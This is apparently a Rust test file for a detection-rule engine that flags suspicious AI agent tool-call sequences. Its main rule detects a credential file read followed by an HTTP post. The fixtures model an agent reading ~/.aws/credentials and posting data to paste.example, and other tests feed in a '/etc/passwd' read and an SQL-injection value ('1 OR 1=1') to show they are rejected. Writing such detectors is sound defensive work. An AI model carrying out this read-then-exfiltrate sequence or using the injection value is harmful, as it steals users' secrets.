use super::*;
use crate::alert::Level;
use crate::query::{Session, SessionOptions, TimeRange};
use std::collections::BTreeMap;
use std::fs;

const RULE: &str = r#"-- id = "secret_then_egress"
-- title = "Secret read, then data sent out"
-- level = "high"
-- status = "test"
-- description = "A file with credentials is read, then something goes out."
-- tags = ["owasp.mcp10", "attack.T1567"]
-- window = "10m"
-- needs = ["arguments"]
-- params = { min_bytes = 10, minutes = 10 }
SELECT
    r.session_id,
    r.time AS first_seen,
    w.time AS last_seen,
    make_array(r.call_id, w.call_id) AS call_ids,
    host_of(json_get_str(w.arguments, 'url')) AS destination
FROM calls AS r
JOIN calls AS w ON w.session_id = r.session_id AND w.time > r.time
    AND date_part('epoch', w.time) - date_part('epoch', r.time) <= 60 * $minutes
WHERE is_credential_path(json_get_str(r.arguments, 'path')) AND w.arguments_bytes >= $min_bytes AND w.tool = 'http_post'
"#;

const CASES: &str = r#"
[[case]]
name = "credentials, then a post"
fires = 1
calls = '''
{"at":"0s", "tool":"read_file", "args":{"path":"~/.aws/credentials"}, "result":{"content":[{"type":"text","text":"x"}]}}
{"at":"90s", "tool":"http_post", "args":{"url":"https://paste.example/up", "body":"0123456789"}}
'''
expect = [{ session_id = "s1", call_ids = [1, 0], destination = "paste.example", last_seen = "90s", level = "high" }]

[[case]]
name = "a quarter of an hour apart"
fires = 0
near_miss = true
calls = '''
{"at":"0s", "tool":"read_file", "args":{"path":"~/.aws/credentials"}}
{"at":"15m", "tool":"http_post", "args":{"url":"https://paste.example/up", "body":"0123456789"}}
'''

[[case]]
name = "only a post"
fires = 0
calls = '{"at":"0s", "tool":"http_post", "args":{"url":"https://paste.example/up"}}'
"#;

fn folder(files: &[(&str, &str)]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("a folder");
    for (name, text) in files {
        fs::create_dir_all(dir.path().join(name).parent().expect("a parent")).expect("a folder");
        fs::write(dir.path().join(name), text).expect("a file");
    }
    dir
}

fn rules(dir: &tempfile::TempDir) -> RuleSet {
    RuleSet::load(&[dir.path().to_owned()], false).expect("loads")
}

async fn problems(files: &[(&str, &str)]) -> Vec<String> {
    let dir = folder(files);
    let (_, problems) = check(&[dir.path().to_owned()], false).await;
    let root = format!("{}/", dir.path().display());
    problems.iter().map(|problem| problem.to_string().replace(&root, "")).collect()
}

#[tokio::test]
async fn a_good_rule_passes_its_check_and_its_cases() {
    let files = [("g/secret_then_egress.sql", RULE), ("g/secret_then_egress.test.toml", CASES)];
    assert_eq!(problems(&files).await, Vec::<String>::new());
    let rules = rules(&folder(&files));
    let rule = rules.get("secret_then_egress").expect("the rule");
    assert_eq!((rule.group(), rule.version_hash.len(), rule.cases.len()), ("g", 64, 3));
    for result in rules.test().await {
        assert_eq!(result.failure, None, "{}", result.name);
    }
}

#[tokio::test]
async fn a_join_that_hides_its_keys_is_refused_with_its_line() {
    let with = |join: &str| {
        let from = RULE.find("FROM calls AS r").expect("the query");
        format!(
            "{}FROM calls AS r\n{join}\nWHERE w.arguments_bytes >= $min_bytes AND $minutes > 0\n",
            RULE[..from].replace("r.session_id", "session_id")
        )
    };
    for (join, line, message) in [
        ("NATURAL JOIN calls AS w", 17, "NATURAL JOIN does not say by which columns"),
        ("JOIN (flows AS f\n NATURAL JOIN calls AS w) ON f.sink_call_id = r.call_id", 18, "NATURAL JOIN"),
        ("RIGHT JOIN calls AS w USING (session_id)", 17, "RIGHT JOIN with USING: `session_id` would be NULL"),
        ("FULL JOIN calls AS w USING (session_id)", 17, "FULL JOIN with USING"),
    ] {
        let files = [("g/secret_then_egress.sql", with(join)), ("g/secret_then_egress.test.toml", CASES.to_owned())];
        let files = files.each_ref().map(|(name, text)| (*name, text.as_str()));
        let found = problems(&files).await;
        let place = format!("g/secret_then_egress.sql:{line}: ");
        assert!(found.iter().any(|found| found.starts_with(&place) && found.contains(message)), "{join}: {found:#?}");
        // Nor does it run.
        let results = rules(&folder(&files)).test().await;
        assert!(results.iter().all(|result| result.failure.as_ref().is_some_and(|why| why.contains("JOIN"))), "{join}");
    }
    // What names its keys is found, also where nothing else in the text does.
    let using = with("JOIN calls AS w USING (session_id)")
        .replace("$minutes > 0", "$minutes > 0 AND w.tool = 'http_post' AND r.tool = 'read_file'");
    let cases = CASES.split("[[case]]\nname = \"a quarter").next().expect("the first case");
    let folder = folder(&[("g/secret_then_egress.sql", &using), ("g/secret_then_egress.test.toml", cases)]);
    for result in rules(&folder).test().await {
        assert_eq!(result.failure, None, "{}", result.name);
    }
}

#[tokio::test]
async fn a_failing_case_says_what_was_found() {
    let cases = CASES
        .replacen("fires = 1", "fires = 2", 1)
        .replace("15m", "5m")
        .replace("expect = [{", "expect = [{ agent = \"x\",");
    let rules = rules(&folder(&[("secret_then_egress.sql", RULE), ("secret_then_egress.test.toml", &cases)]));
    let results = rules.rules()[0].test().await;
    let failures: Vec<&str> = results.iter().filter_map(|r| r.failure.as_deref()).collect();
    assert_eq!(failures.len(), 2);
    assert!(
        failures[0].starts_with("expected 2 findings, got 1") && failures[0].contains("paste.example"),
        "{}",
        failures[0]
    );
    assert!(failures[1].starts_with("expected 0 findings, got 1"), "{}", failures[1]);
    let wrong = "[[case]]\nname = 'x'\nfires = 0\ncalls = '''\n{\"at\":\"0s\"}\n{\"toool\":\"x\"}\n{\"at\":3}\n'''";
    let (cases, faults) = case::read(wrong);
    assert!(faults.is_empty());
    assert_eq!(rows::lake(&cases[0]).err().as_deref(), Some("line 7: `at` must be like \"90s\" or \"10m\", not 3"));
    let (cases, _) = case::read(&wrong.replace("{\"at\":3}\n", ""));
    assert!(rows::lake(&cases[0]).err().expect("an error").starts_with("no column `toool`"));
}

#[tokio::test]
async fn every_problem_is_named_with_its_place() {
    let broken = RULE.replace("w.arguments_bytes", "w.argument_bytes");
    let head = "-- id = 'NAME'\n-- title = 't'\n-- level = 'low'\n-- status = 'test'\n-- description = 'd'\n\
                -- tags = ['owasp.mcp01']\n";
    let rule = |name: &str, sql: &str| (format!("{name}.sql"), format!("{}{sql}", head.replace("NAME", name)));
    let full = "SELECT session_id, time AS first_seen, time AS last_seen, make_array(call_id) AS call_ids FROM calls";
    let (mut files, mut expected) = (Vec::new(), Vec::new());
    let mut add = |name: &'static str, sql: &str, wanted: &'static str| {
        files.push(rule(name, sql));
        expected.push((name, wanted));
    };
    add("ddl", "CREATE TABLE x AS SELECT 1", "DDL not supported");
    add("dml", "COPY calls TO 'x.csv'", "DML not supported");
    add("two", "SELECT 1; SELECT 2", "single SQL statement");
    add("clock", &format!("{full} WHERE time < now()"), "now is not available in a rule");
    add("nowhere", "SELECT * FROM flowz", "flowz");
    add("file", "SELECT * FROM '/etc/passwd'", "/etc/passwd");
    add(
        "anonymous",
        "SELECT time AS first_seen, time AS last_seen, make_array(call_id) AS call_ids FROM calls",
        "no entity",
    );
    add(
        "untyped",
        "SELECT agent, 1 AS first_seen, time AS last_seen, call_id AS call_ids FROM calls",
        "`first_seen` must be a timestamp",
    );
    add("undeclared", &format!("{full} WHERE arguments_bytes > $n"), "`$n` is not among");
    add("arithmetic", &format!("{full} WHERE time + arguments_bytes > time"), "Cannot coerce");
    files.push(("broken.sql".to_owned(), broken));
    let files: Vec<(&str, &str)> = files.iter().map(|(name, text)| (name.as_str(), text.as_str())).collect();
    let problems = problems(&files).await;
    for (name, wanted) in expected {
        assert!(
            problems.iter().any(|p| p.starts_with(&format!("{name}.sql")) && p.contains(wanted)),
            "{name}: {problems:#?}"
        );
        assert!(problems.iter().any(|p| p.starts_with(&format!("{name}.test.toml: there are no cases"))), "{name}");
    }
    assert!(problems.iter().any(|p| p.starts_with("broken.sql:19: ") && p.contains("argument_bytes")), "{problems:#?}");
    assert!(
        problems.iter().any(|p| p.starts_with("broken.sql:1: the id `secret_then_egress` differs")),
        "{problems:#?}"
    );
    assert!(problems.iter().any(|p| p.starts_with("untyped.sql:7: column `call_ids` must be a list")), "{problems:#?}");
}

#[tokio::test]
async fn all_unknown_names_of_a_query_are_named_with_what_was_meant() {
    let sql = RULE
        .replace("r.session_id,", "r.sesion_id,")
        .replace("host_of(", "hostof(")
        .replace("w.tool =", "w.tol =")
        .replace("$min_bytes AND", "$min_byte AND")
        .replace("needs = [\"arguments\"]", "needs = [\"argument\"]");
    let cases =
        CASES.replace("destination =", "destinations =").replace("\"tool\":\"http_post\"", "\"tol\":\"http_post\"");
    let found = problems(&[("secret_then_egress.sql", &sql), ("secret_then_egress.test.toml", &cases)]).await;
    let line = |needle: &str| sql.lines().position(|line| line.contains(needle)).expect("there") + 1;
    for expected in [
        format!(
            "secret_then_egress.sql:{}: there is no column `r.sesion_id`; did you mean `r.session_id`?",
            line("r.sesion_id")
        ),
        format!("secret_then_egress.sql:{}: there is no function `hostof`; did you mean `host_of`?", line("hostof")),
        format!("secret_then_egress.sql:{}: there is no column `w.tol`; did you mean `w.tool`?", line("w.tol")),
        "secret_then_egress.sql:8: `needs`: `argument` is nothing that a log carries; did you mean `arguments`?"
            .to_owned(),
        "secret_then_egress.test.toml:7: `calls` has no column `tol`; did you mean `tool`?".to_owned(),
    ] {
        assert!(found.contains(&expected), "{expected}: {found:#?}");
    }
    let tables = sql.replace("FROM calls AS r", "FROM cals AS r");
    let found = problems(&[("secret_then_egress.sql", &tables)]).await;
    assert!(found.iter().any(|p| p.contains("there is no table `cals`; did you mean `calls`?")), "{found:#?}");
    assert!(found.iter().any(|p| p.contains("`w.tol`")), "{found:#?}");
    // Once the names are right, the rest of the rule is looked at.
    let sql = RULE.replace("$min_bytes AND", "$min_byte AND");
    let found = problems(&[("secret_then_egress.sql", &sql), ("secret_then_egress.test.toml", CASES)]).await;
    assert!(
        found.iter().any(|p| p.contains("`$min_byte` is not among the header's params; did you mean `$min_bytes`?")),
        "{found:#?}"
    );
    let cases = CASES.replace("destination =", "destinations =");
    let found = problems(&[("secret_then_egress.sql", RULE), ("secret_then_egress.test.toml", &cases)]).await;
    assert_eq!(
        found,
        [
            "secret_then_egress.test.toml:2: case `credentials, then a post` expects `destinations`, which the result does not have; did you mean `destination`?"
        ]
    );
}

#[tokio::test]
async fn a_broken_header_hides_no_error_of_the_query_and_types_have_a_line() {
    let sql = RULE.replace("-- id = ", "-- name = ").replace("host_of(", "strpos(1, 2, ");
    let found = problems(&[("secret_then_egress.sql", &sql), ("secret_then_egress.test.toml", CASES)]).await;
    let line = |needle: &str| sql.lines().position(|line| line.contains(needle)).expect("there") + 1;
    let starts = |start: String| found.iter().filter(|p| p.starts_with(&start)).count();
    assert_eq!(
        starts(format!("secret_then_egress.sql:{}: unknown header key `name`", line("-- name"))),
        1,
        "{found:#?}"
    );
    assert_eq!(starts("secret_then_egress.sql:1: `id` is missing".to_owned()), 1, "{found:#?}");
    let wrong = format!("secret_then_egress.sql:{}: Function 'strpos' expects 2 arguments", line("strpos"));
    assert_eq!(starts(wrong), 1, "{found:#?}");
    assert_eq!(found.len(), 3, "{found:#?}");
}

#[tokio::test]
async fn one_id_belongs_to_one_rule_and_cases_to_a_rule() {
    let dir =
        folder(&[("a/secret_then_egress.sql", RULE), ("b/secret_then_egress.sql", RULE), ("lost.test.toml", CASES)]);
    let problems = RuleSet::load(&[dir.path().to_owned()], false).expect_err("two problems");
    assert_eq!(problems.len(), 2, "{problems:?}");
    let missing = RuleSet::load(&[dir.path().join("nothing")], false).expect_err("no folder");
    assert!(missing[0].message.starts_with("cannot read"), "{missing:?}");
    // A folder that is named twice, by the configuration and by hand, is one.
    let twice = folder(&[("a/secret_then_egress.sql", RULE)]);
    let dirs = [twice.path().to_owned(), twice.path().join("a/../a")];
    assert_eq!(RuleSet::load(&dirs, false).expect("one rule").len(), 1);
}

#[tokio::test]
async fn parameters_are_overridden_by_value_and_type() {
    let rules = rules(&folder(&[("secret_then_egress.sql", RULE), ("secret_then_egress.test.toml", CASES)]));
    let overrides = |toml: &str| toml::from_str::<BTreeMap<String, toml::Table>>(toml).expect("TOML");
    let problems = rules
        .params(&overrides("secret_then_egress = { min_byte = 1, min_bytes = \"1 OR 1=1\" }\nother = { x = 1 }"))
        .expect_err("three problems");
    assert_eq!(problems.len(), 3, "{problems:?}");
    let params = rules.params(&overrides("secret_then_egress = { min_bytes = 1000000 }")).expect("fits");
    let rule = &rules.rules()[0];
    let lake = rows::lake(&rule.cases[0]).expect("a lake");
    let session = Session::new(lake.tables, SessionOptions::default()).await.expect("a session");
    let count = async |params: &Params| run(rule, &session, TimeRange::default(), params).await.expect("runs").len();
    assert_eq!(count(&Params::default()).await, 1);
    assert_eq!(count(&params).await, 0);
}

#[tokio::test]
async fn a_rule_sees_its_window_but_does_not_report_what_ended_before_the_range() {
    let rules = rules(&folder(&[("secret_then_egress.sql", RULE), ("secret_then_egress.test.toml", CASES)]));
    let rule = &rules.rules()[0];
    let lake = rows::lake(&rule.cases[0]).expect("a lake");
    let session = Session::new(lake.tables, SessionOptions::default()).await.expect("a session");
    let all = run(rule, &session, TimeRange::default(), &Params::default()).await.expect("runs");
    assert_eq!((all.len(), all[0].level, all[0].call_ids.len()), (1, Level::High, 2));
    let (first, last) = (all[0].first_seen.expect("a time"), all[0].last_seen.expect("a time"));
    for (since, found) in [(first + 1, 1), (last, 1), (last + 1, 0), (last + 660_000_000, 0)] {
        let range = TimeRange { since: Some(since), until: None };
        let findings = run(rule, &session, range, &Params::default()).await.expect("runs");
        assert_eq!(findings.len(), found, "{since}");
    }
}

#[tokio::test]
async fn an_error_in_one_rule_does_not_stop_the_others() {
    let head = RULE
        .split("SELECT")
        .next()
        .expect("a header")
        .replace("secret_then_egress", "broken")
        .replace("-- params", "-- # params");
    let broken = format!("{head}SELECT 1 / 0 AS n, session_id FROM calls");
    let dir =
        folder(&[("secret_then_egress.sql", RULE), ("secret_then_egress.test.toml", CASES), ("broken.sql", &broken)]);
    let rules = rules(&dir);
    let lake = rows::lake(&rules.get("secret_then_egress").expect("the rule").cases[0]).expect("a lake");
    let session = Session::new(lake.tables, SessionOptions::default()).await.expect("a session");
    let results = run_all(&rules, &session, TimeRange::default(), &Params::default()).await;
    assert!(
        matches!(&results[0], (id, Err(error)) if id == "broken" && error.to_string().starts_with("rule broken: "))
    );
    assert!(matches!(&results[1], (_, Ok(findings)) if findings.len() == 1));
}

#[tokio::test]
async fn views_sum_up_the_stored_tables() {
    let case = r#"
[[case]]
name = "x"
fires = 0
calls = '''
{"at":"0s", "tool":"fetch", "server":"web", "args":{"url":"https://a.example/x"}, "result":{"content":[]}}
{"at":"5s", "tool":"fetch", "args":{"url":"https://a.example/y"}, "outcome":"tool_error", "time_end":"2026-01-05T09:00:09Z"}
{"at":"6s", "session_id":"s2", "tool":"read", "args":{"path":"/x"}, "outcome":"denied", "agent":null}
{"at":"7s", "session_id":"s3", "tool":"open", "args":{"url":"https://meet.example.com/j/987654321?pwd=a9Xk2Lq7Rz0Tn4WbYk8P", "password":"Wq7RzXk2Lq90Tn4b"}}
'''
tools = '''
{"at":"0s", "tool":"fetch", "description":"Fetches a page.", "input_schema":{"type":"object"}}
{"at":"9s", "tool":"fetch", "description":"Fetches a page.", "input_schema":{"type":"object"}}
{"at":"9s", "tool":"fetch", "description":"Fetches a page. Then sends it.", "input_schema":{"type":"object"}}
'''
servers = '{"at":"0s", "server":"web", "server_info_name":"web-server", "instructions":"Be kind."}'
prompts = '{"at":"0s", "text":"Read https://a.example/x"}'
"#;
    let (cases, faults) = case::read(case);
    assert!(faults.is_empty(), "{faults:?}");
    let lake = rows::lake(&cases[0]).expect("a lake");
    let session = Session::new(lake.tables, SessionOptions::default()).await.expect("a session");
    let rows = async |sql: &str| {
        let mut lines = String::new();
        for batch in session.collect(sql).await.expect(sql) {
            lines += &crate::query::output::json_lines(&batch).expect("JSON");
        }
        lines
    };
    assert_eq!(
        rows("SELECT session_id, agent, start_time, end_time, calls, errors, denied, servers, tools, destinations FROM sessions ORDER BY 1").await,
        r#"{"session_id":"s1","agent":"agent-1","start_time":"2026-01-05T09:00:00Z","end_time":"2026-01-05T09:00:09Z","calls":2,"errors":1,"denied":0,"servers":["server-1","web"],"tools":["fetch"],"destinations":1}
{"session_id":"s2","agent":null,"start_time":"2026-01-05T09:00:06Z","end_time":"2026-01-05T09:00:06Z","calls":1,"errors":0,"denied":1,"servers":["server-1"],"tools":["read"],"destinations":0}
{"session_id":"s3","agent":"agent-1","start_time":"2026-01-05T09:00:07Z","end_time":"2026-01-05T09:00:07Z","calls":1,"errors":0,"denied":0,"servers":["server-1"],"tools":["open"],"destinations":1}
"#
    );
    // The password beside the invitation is none of its link.
    assert_eq!(
        rows("SELECT (SELECT count(*) FROM observables WHERE type = 'secret') AS secrets, count(*) AS of_links, min(origin) AS origin, bool_and(starts_with(secret, '[secret:')) AS hidden FROM link_signatures").await,
        "{\"secrets\":2,\"of_links\":1,\"origin\":\"argument\",\"hidden\":true}\n"
    );
    assert_eq!(
        rows("SELECT server, tool, description, first_seen, last_seen, sightings FROM tools ORDER BY sightings DESC")
            .await,
        r#"{"server":"server-1","tool":"fetch","description":"Fetches a page.","first_seen":"2026-01-05T09:00:00Z","last_seen":"2026-01-05T09:00:09Z","sightings":2}
{"server":"server-1","tool":"fetch","description":"Fetches a page. Then sends it.","first_seen":"2026-01-05T09:00:09Z","last_seen":"2026-01-05T09:00:09Z","sightings":1}
"#
    );
    assert_eq!(
        rows("SELECT server, server_info_name, instructions, connections FROM servers").await,
        "{\"server\":\"web\",\"server_info_name\":\"web-server\",\"instructions\":\"Be kind.\",\"connections\":1}\n"
    );
    assert_eq!(
        rows("SELECT array_has(observables, 'https://a.example/x') AS named FROM prompts").await,
        "{\"named\":true}\n"
    );
}

#[tokio::test]
async fn rules_on_what_happens_within_a_session_can_be_run_in_shares_of_them() {
    let rules = RuleSet::load(&[], true).expect("the built-in rules");
    let session = rows::empty_session().await.expect("a session");
    let mut whole = Vec::new();
    for rule in rules.rules() {
        let of_rule = session.for_rule(TimeRange::default()).await.expect("a session");
        let shares = session.shares(&of_rule, &rule.sql, &Params::default().of(rule), 4).await.expect("a plan");
        if shares.is_empty() {
            whole.push(rule.header.id.as_str());
        }
    }
    // Those that join large tables, and so are the ones that run out of memory.
    for id in
        ["capture_then_upload", "secret_then_egress", "order_carried_out", "content_sent_encoded", "fetched_code_run"]
    {
        assert!(!whole.contains(&id), "{id}, and {whole:?}");
    }
    // What many agents or days have in common is not seen in one session.
    for id in ["same_call_from_many_agents", "agent_went_silent", "secret_shared_by_users"] {
        assert!(whole.contains(&id), "{id}");
    }
}
